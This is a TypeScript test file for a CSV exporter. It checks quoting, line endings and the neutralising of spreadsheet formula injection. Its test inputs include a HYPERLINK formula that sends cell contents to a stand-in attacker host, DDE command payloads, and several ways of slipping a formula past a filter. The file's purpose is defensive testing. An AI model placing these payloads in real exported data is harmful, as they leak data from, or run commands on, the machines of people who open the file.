import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { csvBytes, csvLine } from "./csv.ts";

test("a file begins with a byte order mark, its lines end in CR LF, every field is quoted", () => {
  assert.equal(
    csvBytes(["日時", "氏名"], [["2026/04/10", '笠原 "太郎", 医師']]).toString(),
    '\ufeff"日時","氏名"\r\n"2026/04/10","笠原 ""太郎"", 医師"\r\n',
  );
});

describe("what a spreadsheet would run gets an apostrophe", () => {
  for (const [name, text] of [
    ["a formula", "=1+1"],
    ["a link that sends cells away", '=HYPERLINK("https://evil.example/"&A1)'],
    ["DDE", "=cmd|' /C calc'!A0"],
    ["DDE without a sign", "|cmd"],
    ["plus", "+1+1"],
    ["minus", "-2+3+cmd|' /C calc'!A0"],
    ["at", "@SUM(1+1)"],
    ["tab", "\t=1"],
    ["carriage return", "\r=1"],
    ["line feed", "\n=1"],
    ["blanks in front", "   =1"],
    ["an ideographic space in front", "\u3000=1"],
    ["a quote in front", '"=1'],
    ["a zero-width space in front", "\u200b=1"],
    ["a byte order mark in front", "\ufeff=1"],
    ["full width", "＝1+1"],
    ["full-width plus", "＋1"],
    ["full-width minus", "－1"],
    ["full-width at", "＠SUM(1)"],
  ] as const) {
    test(name, () => assert.equal(csvLine([text]), `"'${text.replaceAll('"', '""')}"\r\n`));
  }
});

test("what is none stays as it is, and nothing leaves its field", () => {
  for (const text of ["", "admin", "笠原", "2026-04-10", "a=b", "user@example.jp", "192.0.2.1", "''", "  "]) {
    assert.equal(csvLine([text]), `"${text}"\r\n`);
  }
  assert.equal(csvLine(['a","=1', "b\r\n=1"]), '"a"",""=1","b\r\n=1"\r\n');
});
